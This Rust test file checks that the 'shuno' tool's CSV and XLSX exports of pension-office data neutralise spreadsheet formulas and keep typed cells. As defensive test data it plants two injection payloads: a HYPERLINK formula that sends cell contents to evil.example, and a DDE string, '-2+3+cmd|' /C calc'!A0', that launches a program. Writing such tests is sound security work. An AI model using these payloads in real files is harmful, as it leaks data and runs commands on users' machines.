//! Every export, as the command line writes it: the CSV is safe to open in a
//! spreadsheet (a formula in a source file comes out as text), and the workbook
//! of the same table, read back with calamine, holds the same cells with real
//! types (numbers as numbers, days and months as dates).

use calamine::{Data, Reader, Xlsx};
use std::path::Path;
use std::process::{Command, Output};

fn shuno(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shuno")).args(args).output().expect("shuno runs")
}

fn ok(out: Output) -> Vec<u8> {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

/// A day from Excel's serial number (1900 system, from 1900-03-01 on).
fn excel_day(serial: f64) -> chrono::NaiveDate {
    chrono::NaiveDate::from_ymd_opt(1899, 12, 30).unwrap() + chrono::Duration::days(serial as i64)
}

/// The CSV's rows (BOM stripped, header included).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.strip_prefix('\u{FEFF}').expect("a BOM for Excel");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect()
}

/// The workbook's sheets, by name, as calamine reads them.
fn sheets(path: &Path) -> Vec<(String, Vec<Vec<Data>>)> {
    let mut book: Xlsx<_> = calamine::open_workbook(path).expect("calamine opens the workbook");
    let names = book.sheet_names();
    names
        .into_iter()
        .map(|name| {
            let range = book.worksheet_range(&name).unwrap();
            (name, range.rows().map(|r| r.to_vec()).collect())
        })
        .collect()
}

/// Whether a workbook cell holds what the CSV cell says.
fn same_cell(xlsx: &Data, csv: &str) -> bool {
    match xlsx {
        Data::Empty => csv.is_empty(),
        // Text: verbatim, or behind the neutralising quote.
        Data::String(s) => csv == s || csv.strip_prefix('\'') == Some(s),
        Data::Float(f) => csv.parse::<f64>().is_ok_and(|c| (c - f).abs() <= 1e-9 * f.abs().max(1.0)),
        Data::Int(n) => csv.parse::<i64>() == Ok(*n),
        Data::DateTime(d) => {
            let day = excel_day(d.as_f64());
            csv == day.to_string() || csv == day.format("%Y-%m").to_string()
        }
        other => panic!("unexpected cell {other:?}"),
    }
}

/// The CSV equals the workbook's sheet `sheet`, cell by cell, and every number
/// column of the CSV is a number in the workbook.
fn assert_same_table(csv: &[u8], xlsx: &Path, sheet: usize) -> Vec<Vec<Data>> {
    let csv = csv_rows(csv);
    let (_, rows) = sheets(xlsx).swap_remove(sheet);
    assert_eq!(rows.len(), csv.len(), "row count");
    for (i, (x, c)) in rows.iter().zip(&csv).enumerate() {
        assert!(x.len() >= c.iter().rposition(|s| !s.is_empty()).map_or(0, |p| p + 1), "row {i}");
        for (j, cell) in c.iter().enumerate() {
            let got = x.get(j).unwrap_or(&Data::Empty);
            assert!(same_cell(got, cell), "row {i} column {j}: workbook {got:?}, CSV {cell:?}");
            if i > 0 && cell.parse::<f64>().is_ok() && !matches!(got, Data::String(_)) {
                assert!(
                    matches!(got, Data::Float(_) | Data::Int(_)),
                    "row {i} column {j}: {got:?} not a number"
                );
            }
        }
    }
    rows
}

fn demo(dir: &Path) {
    ok(shuno(&["demo", "--out", dir.to_str().unwrap(), "--seed", "7"]));
}

const PAYLOAD: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";

/// The demo with an office named by a formula, as a hostile export might carry.
fn demo_with_a_formula_name(dir: &Path) {
    demo(dir);
    let path = dir.join("offices.csv");
    let bytes = std::fs::read(&path).unwrap();
    let text = encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned();
    let first_name = text.lines().nth(1).unwrap().split(',').nth(1).unwrap().to_string();
    let quoted = format!("\"{}\"", PAYLOAD.replace('"', "\"\""));
    let changed = text.replacen(&first_name, &quoted, 1);
    std::fs::write(&path, shuno::core::import::decode::encode_cp932(&changed).unwrap()).unwrap();
}

#[test]
fn settlement_csv_is_safe_and_the_workbook_holds_the_same_cells() {
    let dir = tempfile::tempdir().unwrap();
    demo_with_a_formula_name(dir.path());
    let d = dir.path().to_str().unwrap();
    let csv = ok(shuno(&["settle", d, "--period", "1", "--format", "csv"]));
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains(&format!("\"'{}\"", PAYLOAD.replace('"', "\"\""))), "the payload is text");
    assert!(!text.contains(",=HYPERLINK") && !text.contains(",\"=HYPERLINK"), "no bare formula");
    // Negative yen figures stay numbers.
    assert!(text.lines().any(|l| l.split(',').any(|c| c.starts_with('-') && c[1..].parse::<u64>().is_ok())));

    let xlsx = dir.path().join("精算_第1期_2027-04.xlsx");
    ok(shuno(&["settle", d, "--period", "1", "--format", "xlsx", "--out", xlsx.to_str().unwrap()]));
    let rows = assert_same_table(&csv, &xlsx, 1);
    assert!(rows.iter().any(|r| r.contains(&Data::String(PAYLOAD.into()))), "a string cell, never a formula");

    let all = sheets(&xlsx);
    let names: Vec<&str> = all.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["適用ルール", "精算"]);
    let rules: Vec<String> = all[0].1.iter().map(|r| format!("{}={}", r[0], r[1])).collect();
    for line in ["帯の読み方=段階（累進）", "端数処理=切り捨て", "元ファイル=offices.csv"]
    {
        assert!(rules.iter().any(|r| r == line), "{line} in {rules:?}");
    }
}

#[test]
fn records_and_duty_workbooks_match_their_csv() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    ok(shuno(&["bench-data", "--persons", "300", "--out", d]));
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();

    let csv = ok(shuno(&["records", d, "--format", "csv"]));
    let xlsx = out.join("records.xlsx");
    ok(shuno(&["records", d, "--format", "xlsx", "--out", xlsx.to_str().unwrap()]));
    assert_same_table(&csv, &xlsx, 1);

    let csv = ok(shuno(&["duty", d, "--as-of", "2027-06-30", "--format", "csv"]));
    let xlsx = out.join("duty.xlsx");
    ok(shuno(&["duty", d, "--as-of", "2027-06-30", "--format", "xlsx", "--out", xlsx.to_str().unwrap()]));
    let rows = assert_same_table(&csv, &xlsx, 1);
    assert!(rows.len() > 1, "the bench data has overdue persons");
    // Days are dates.
    assert!(matches!(rows[1][3], Data::DateTime(_)), "{:?}", rows[1][3]);
}

#[test]
fn rejected_rows_are_neutralised_in_csv_and_typed_in_the_workbook() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let progress = dir.path().join("progress.csv");
    let mut text = std::fs::read_to_string(&progress).unwrap();
    let cells = text.lines().nth(1).unwrap().split(',').count();
    let bad = vec!["-2+3+cmd|' /C calc'!A0"; cells].join(",");
    text.push_str(&format!("{bad}\n"));
    std::fs::write(&progress, text).unwrap();
    let d = dir.path().to_str().unwrap();
    // Outside the data folder, which `check` reads whole.
    let out = tempfile::tempdir().unwrap();
    let csv_path = out.path().join("rejected.csv");
    let xlsx_path = out.path().join("rejected.xlsx");
    assert!(!shuno(&["check", d, "--rejected", csv_path.to_str().unwrap()]).status.success());
    assert!(!shuno(&["check", d, "--rejected", xlsx_path.to_str().unwrap()]).status.success());
    let csv = std::fs::read(&csv_path).unwrap();
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains("'-2+3+cmd|"), "{text}");
    assert!(!text.contains(",-2+3+cmd|"), "{text}");
    assert_same_table(&csv, &xlsx_path, 0);
}

#[test]
fn a_workbook_needs_a_file_to_go_to() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let out = shuno(&["settle", dir.path().to_str().unwrap(), "--format", "xlsx"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--out FILE.xlsx"));
}

/// The import worker sends the page its report, and the page sends the export
/// worker a workbook, as postcard bytes: both read back whole (postcard cannot
/// carry a type that asks its decoder what comes next, such as an internally
/// tagged enum, so a type added to either seam that needs it fails here).
#[test]
fn the_worker_seams_round_trip_through_postcard() {
    use shuno::core::import::{import, SourceFile};
    use shuno::profiles::pension::{Pension, ShownPensionReport};
    let files = shuno::demo::generate(1);
    let mut sources: Vec<SourceFile> =
        files.iter().map(|f| SourceFile { name: &f.name, bytes: &f.bytes, encoding: None }).collect();
    let broken =
        "事務所コード,年月,督励手法,計画件数,実施件数,接触件数\n90101,2026-05,電話,十,1,1\n".as_bytes();
    sources.push(SourceFile { name: "broken.csv", bytes: broken, encoding: None });
    let report = import::<Pension>(&sources);
    let analysis =
        shuno::profiles::pension::records::analysis::analyse(&report.private, Default::default()).unwrap();
    let bytes = postcard::to_allocvec(&analysis).unwrap();
    assert_eq!(
        postcard::from_bytes::<shuno::profiles::pension::records::analysis::RecordsAnalysis>(&bytes).unwrap(),
        analysis
    );
    let shown: ShownPensionReport = report.shown();
    assert!(!shown.problems.is_empty() && !shown.dataset.targets.is_empty());
    let bytes = postcard::to_allocvec(&shown).unwrap();
    let back: ShownPensionReport = postcard::from_bytes(&bytes).unwrap();
    assert_eq!(back, shown);
    let settlement = shuno::profiles::pension::rules::settle(&back.dataset, &Default::default()).unwrap();
    let book = shuno::profiles::pension::views::export::settlement_workbook(
        &settlement,
        &[],
        shuno::core::i18n::Lang::Ja,
    );
    let back: shuno::core::export::Workbook =
        postcard::from_bytes(&postcard::to_allocvec(&book).unwrap()).unwrap();
    assert_eq!(back, book);
}
